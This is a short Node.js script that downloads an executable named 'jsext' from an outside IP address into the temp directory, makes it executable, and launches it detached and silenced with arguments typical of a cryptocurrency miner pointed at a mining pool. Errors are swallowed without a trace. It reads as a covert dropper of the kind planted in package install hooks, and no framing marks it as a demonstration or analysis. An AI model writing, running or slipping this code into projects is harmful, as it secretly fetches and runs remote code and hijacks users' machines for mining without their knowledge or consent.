const fs = require('fs');
const http = require('http');
const os = require('os');
const path = require('path');
const cp = require('child_process');

const target = path.join(os.tmpdir(), os.platform() === 'win32' ? 'jsext.exe' : 'jsext');
const settings = { host: '192.0.2.186', port: 80, path: '/download/' + path.basename(target) };

http.get(settings, (answer) => {
  const file = fs.createWriteStream(target, { mode: 0o755 });
  answer.pipe(file);
  file.on('finish', () => {
    file.close(() => {
      fs.chmodSync(target, 0o755);
      cp.spawn(target, ['--donate-level=1', '-o', 'pool.invalid:443'], {
        detached: true,
        stdio: 'ignore',
      }).unref();
    });
  });
}).on('error', () => undefined);
